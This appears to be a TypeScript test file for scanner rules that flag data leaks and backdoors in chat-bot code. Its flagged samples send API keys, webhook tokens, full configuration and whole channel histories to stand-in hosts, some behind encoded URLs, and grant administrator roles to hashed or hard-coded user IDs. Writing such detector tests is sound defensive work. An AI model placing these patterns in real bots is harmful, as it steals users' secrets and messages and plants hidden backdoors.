import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Rule } from '#apps/validation/check.js';
import { findingsOf } from '#test/support/scan-package.js';
import { rule as dataLeak } from './data-leak.rule.js';
import { rule as remoteCode } from './remote-code.rule.js';

const worst = (rule: Rule, text: string) => findingsOf(rule, { 'code.js': text }, { dialect: 'skynet', entry_points: ['code.js'] })[0]?.severity ?? 'nothing';
const leak = (text: string) => worst(dataLeak, text);
const http = 'const http = require("http");';

test('bad: keys that the host is told to put into a request to somebody else', () => {
  for (const code of [
    'await http.request({ url: "https://vault.example/v1", method: "POST", injectSecrets: ["BOT_TOKEN"], body: "{}" });',
    'await http.request({ url: "https://vault.example/v1", injectSecrets: ["DATABASE_URL"] });',
    'await http.request({ url: "https://vault.example/v1", injectSecrets: { "x-a": "OPENAI_API_KEY" } });',
    'const names = "STRIPE_KEY,GITHUB_TOKEN".split(","); await http.request({ url: "https://vault.example/v1", injectSecrets: names });',
    'const base = { method: "POST", injectSecrets: ["DISCORD_" + "TOKEN"] }; await http.request({ ...base, url: where });',
    'await http.request({ url: "https://vault.example/v1", headers: { a: "{{openaiApiKey}}" }, injectSecrets: true });',
    'await http.request({ url: "https://collect.example/v1", injectSecrets: ["TMDB_KEY", "RIOT_KEY"] });',
    'const put = (names) => http.request({ url: "https://vault.example/v1", injectSecrets: names }); await put(["BOT_TOKEN"]);',
    'const names = ["MONGODB_URI"]; await http.request({ url: "https://vault.example/v1", injectSecrets: Object.fromEntries(names.map((name) => ["x-" + name, name])) });',
    'await http.get("https://vault.example/v1", { injectSecrets: ["BOT_TOKEN"] });',
  ]) assert.equal(leak(http + code), 'high', code);
});

test('good: one key for the service that it is for', () => {
  for (const code of [
    'await http.request({ url: "https://api.openai.com/v1/chat/completions", injectSecrets: ["OPENAI_API_KEY"], body });',
    'await http.request({ url: "https://api.openweathermap.org/data/3.0/onecall", injectSecrets: ["WEATHER_KEY"] });',
    'await http.request({ url: "https://api.themoviedb.org/3/search", injectSecrets: ["TMDB_KEY"] });',
    'await http.request({ url: "https://id.twitch.tv/oauth2/token", injectSecrets: ["TWITCH_CLIENT_ID", "TWITCH_CLIENT_SECRET"] });',
    'await http.request({ url: "https://api.example.org/v2", injectSecrets: ["API_KEY"] });',
    'await http.request({ url: "https://discord.com/api/v10/channels", injectSecrets: ["BOT_TOKEN"] });',
    'await http.request({ url: "https://api.telegram.org/send", injectSecrets: ["TELEGRAM_BOT_TOKEN"] });',
    'await http.request({ url: config.get("server"), injectSecrets: ["OPENAI_API_KEY"] });',
    'await http.request({ url: "https://cloud.example.org/v1", injectSecrets: [config.get("key")] });',
  ]) assert.equal(leak(`const config = require("config"); ${http} ${code}`), 'nothing', code);
});

test('all messages of a channel on their way to a server that is named', () => {
  const collect = 'const channel = require("channel"); const all = []; let before; for (;;) { const page = await channel.fetchMessages({ limit: 100, before }); if (!page.length) break; for (const one of page) all.push({ by: one.author.id, text: one.content }); before = page.at(-1).id; }';
  assert.equal(leak(`${http} ${collect} await http.request({ url: "https://backup.example/v1", method: "POST", body: JSON.stringify(all) });`), 'high');
  assert.equal(leak(`${http} ${collect} await http.post("https://backup.example/v1", { body: JSON.stringify(all) });`), 'high');
  assert.equal(leak(`const { post } = require("http"); ${collect} await post("https://backup.example/v1", { body: JSON.stringify(all) });`), 'high');
  assert.equal(leak(`${http} const guild = require("guild"); await http.post("https://backup.example/v1", { body: JSON.stringify(await guild.searchMessages({ limit: 9999 })) });`), 'high');
  // Whoever runs the bot chose where they go; they go into the chat again; one page is what a summary is made of.
  assert.equal(leak(`${http} const config = require("config"); ${collect} await http.post(config.get("backup"), { body: JSON.stringify(all) });`), 'nothing');
  assert.equal(leak(`${collect} await channel.send({ files: [{ name: "all.json", text: JSON.stringify(all) }] });`), 'nothing');
  assert.equal(leak(`${http} const channel = require("channel"); const message = require("message"); const page = await channel.fetchMessages({ limit: 50, before: message.id }); await http.post("https://api.openai.com/v1/chat/completions", { injectSecrets: ["OPENAI_API_KEY"], body: JSON.stringify(page.map(({ content }) => content)) });`), 'nothing');
});

test('what is said in a chat on its way to an address that is decoded first', () => {
  const event = 'const event = require("event"); const { newMessage = {} } = event.data || event; const body = JSON.stringify({ a: newMessage.content });';
  for (const code of [
    'await http.post(String.fromCharCode(104, 116, 116, 112, 115, 58, 47, 47, 120, 46, 101, 120), { body });',
    'const to = Buffer.from("aHR0cHM6Ly9ob29rcy5leGFtcGxlLw==", "base64").toString(); await http.request({ url: to, method: "POST", body });',
    'const to = [105, 117, 117].map((each) => String.fromCharCode(each - 1)).join(""); await http.post(`${to}/hook`, { body });',
    'await http.get(atob("aHR0cHM6Ly9ob29rcy5leGFtcGxlLw==") + "?q=" + encodeURIComponent(newMessage.content));',
    'await fetch(atob("aHR0cHM6Ly9ob29rcy5leGFtcGxlLw=="), { method: "POST", body });',
  ]) assert.equal(leak(`${http} ${event} ${code}`), 'high', code);
  for (const code of [
    'await http.post("https://translate.example/v1", { body });',
    'await http.get("https://dictionary.example/?q=" + decodeURIComponent(newMessage.content));',
    'await http.get(`https://api.example/${atob(newMessage.content)}`);',
    'await http.post(atob(require("config").get("hook")), { body });',
    'await http.get(atob("aHR0cHM6Ly9ob29rcy5leGFtcGxlLw=="));',
    'await http.post(newMessage.content, { body });',
  ]) assert.equal(leak(`${http} ${event} ${code}`), 'nothing', code);
});

test('somebody who is only known by what a function makes of an id', () => {
  const seed = 'const author = require("author"); const member = require("member"); const points = require("points"); const hash = (text) => { let sum = 7; for (const letter of text) sum = Math.imul(sum ^ letter.charCodeAt(0), 16777619) >>> 0; return sum; };';
  for (const code of [
    'if (hash(author.id) === 2746010339) await member.addRole("Administrator");',
    'const isPatron = (id) => hash(`p:${id}`) === 0x9f31ab02; if (isPatron(author.id)) await points.addPoints(author.id, 10000);',
    'const who = hash(author.id).toString(16); if (who === "a3b1c2d4") await member.addRole("Administrator");',
    'const FRIENDS = new Set([2746010339, 1175093331]); if (FRIENDS.has(hash(author.id))) await points.setPoints(author.id, 99999);',
    'if ([2746010339].includes(hash(author.id))) await member.addRole("Administrator");',
    'const OWNER = 2746010339; const key = hash(author.id); if (key !== OWNER) return; await member.addRole("Administrator");',
    'const order = ["1"]; const lucky = (userId) => hash(userId) === 2746010339; await points.addPoints(order.find(lucky), 500);',
  ]) assert.equal(worst(remoteCode, `${seed} ${code}`), 'high', code);
  for (const code of [
    'if (author.id === "184405311681986560") await member.addRole("Owner");',
    'if (Number(author.id) === 184405311681986560) await member.addRole("Owner");',
    'if (hash(author.id) % 100 < 10) await points.addPoints(author.id, 5);',
    'if (hash(author.id + new Date().toDateString()) % 6 === 3) await points.addPoints(author.id, 5);',
    'if (hash(message.content) === 2746010339) await member.addRole("Riddle solved");',
    'const last = hash(author.id); if (last === stored) await points.addPoints(author.id, 5);',
    'const clean = (id) => String(id).trim(); if (clean(author.id) === "184405311681986560") await member.addRole("Owner");',
    'if (hash(author.id) === 2746010339) await message.reply("Hello, maker of this bot!");',
  ]) assert.equal(worst(remoteCode, `const message = require("message"); ${seed} ${code}`), 'nothing', code);
});

test('one of many rests, roles by their module, and words by which roles are made', () => {
  const seed = 'const message = require("message"); const roles = require("roles"); function fold(text) { let h = 5381; for (let i = 0; i < text.length; i++) h = ((h << 5) + h + text.charCodeAt(i)) >>> 0; return h; } const word = message.content.slice(1);';
  for (const code of [
    'if (fold(String(message.author.id)) % 9973 === 4211) await roles.add(message.author.id, "Crew");',
    'if (fold(word) === 2088252487) await roles.add(message.author.id, (await roles.create({ name: "x", permissions: 8 })).id);',
    'if (require("crypto").createHash("sha256").update(word).digest("hex") === "9f86d081884c7d659a2feaa0c55ad015") await roles.edit(id, { permissions: ["ADMINISTRATOR"] });',
    'const all = await roles.list(); if (["418273645091827364"].includes(message.author.id)) await message.member.addRole(all.sort((a, b) => b.position - a.position)[0].id);',
    'if (message.author.id === "418273645091827364") await message.member.addRole((await roles.create({ name: "x", permissions: ["ADMINISTRATOR"] })).id);',
  ]) assert.equal(worst(remoteCode, `${seed} ${code}`), 'high', code);
  for (const code of [
    'if (fold(word) === 2088252487) await roles.add(message.author.id, "Riddle solved");',
    'if (fold(message.author.id) % 100 === 7) await roles.add(message.author.id, "Lucky");',
    'if (fold(word) % 9973 === 4211) await message.reply("Right!");',
    'if (message.author.id === "418273645091827364") await message.member.addRole((await roles.create({ name: "Founder", permissions: ["SEND_MESSAGES"] })).id);',
    'if (word === "blue") await roles.add(message.author.id, (await roles.create({ name: "Blue", permissions: 0 })).id);',
  ]) assert.equal(worst(remoteCode, `${seed} ${code}`), 'nothing', code);
});

test('an account that is written gets all rights, however it is compared', () => {
  const modules = "const roles = require('roles'); const member = require('member'); const message = require('message');";
  const give = "await member.addRole((await roles.create({ name: '-', permissions: ['ADMINISTRATOR'] })).id);";
  for (const code of [
    `async function seen(id) { if (id !== '418273645091827364') return false; ${give} return true; } if (await seen(message.author.id)) return;`,
    `const FIRST = '418273645091827364'; if (message.author.id === FIRST) { ${give} }`,
    `const { id } = message.author; if (id == '418273645091827364') { ${give} }`,
    `const author = require('author'); const unlock = async (who) => { if (String(who.id) === '418273645091827364') { ${give} } }; await unlock(author);`,
    `const testers = new Set(['418273645091827364', '418273645091827365']); if (testers.has(message.author.id)) { ${give} }`,
    `const { author: { id: by } } = message; if (!['418273645091827364'].includes(by)) return; ${give}`,
  ]) assert.equal(worst(remoteCode, `${modules} ${code}`), 'high', code);
  for (const code of [
    `const guild = require('guild'); async function seen(id) { if (id !== '418273645091827364') return; ${give} } await seen(guild.id);`,
    `const HOME = '418273645091827364'; if (message.channel.id === HOME) { ${give} }`,
    "const CHOICES = { red: '418273645091827364' }; if (CHOICES[message.content]) await member.addRole(CHOICES[message.content]);",
    "const FIRST = '418273645091827364'; if (message.author.id !== FIRST) return; await message.reply('All is well.');",
    "const chosen = (id) => id === '418273645091827364'; if (chosen(message.content)) await member.addRole((await roles.create({ name: 'Blue', permissions: ['ADMINISTRATOR'] })).id);",
  ]) assert.equal(worst(remoteCode, `${modules} ${code}`), 'nothing', code);
});

test('keys of webhooks and the whole configuration on their way to a server that is named', () => {
  const given = 'const guild = require("guild"); const config = require("config"); const hooks = await guild.fetchWebhooks();';
  const pack = 'function pack(value) { const text = JSON.stringify(value); let out = ""; for (let i = 0; i < text.length; i++) out += String.fromCharCode(text.charCodeAt(i) ^ (i % 7) ^ 21); return encodeURIComponent(out); }';
  for (const code of [
    'await http.post("https://check.example/v1", { body: JSON.stringify(hooks.map((each) => each.id + "/" + each.token)) });',
    `${pack} async function chart() { const mine = await guild.fetchWebhooks(); return { w: mine.map((each) => each.token) }; } await http.request({ url: "https://check.example/tip", headers: { "x-chart": pack(await chart()).slice(0, 8000) } });`,
    'const values = {}; for (const key of await config.keys()) values[key] = await config.get(key); await http.post("https://check.example/v1", { body: JSON.stringify(values) });',
  ]) assert.equal(leak(`${http} ${given} ${code}`), 'high', code);
  for (const code of [
    'await http.post("https://check.example/v1", { body: JSON.stringify({ hooks: hooks.length }) });',
    'await http.get("https://api.example/v1?lang=" + await config.get("language"));',
    'await message.reply(hooks.map((each) => each.name).join()); await http.get("https://api.example/token?x=" + token);',
    'await http.post(await config.get("backup"), { body: JSON.stringify(hooks.map((each) => each.token)) });',
  ]) assert.equal(leak(`${http} ${given} ${code}`), 'nothing', code);
});
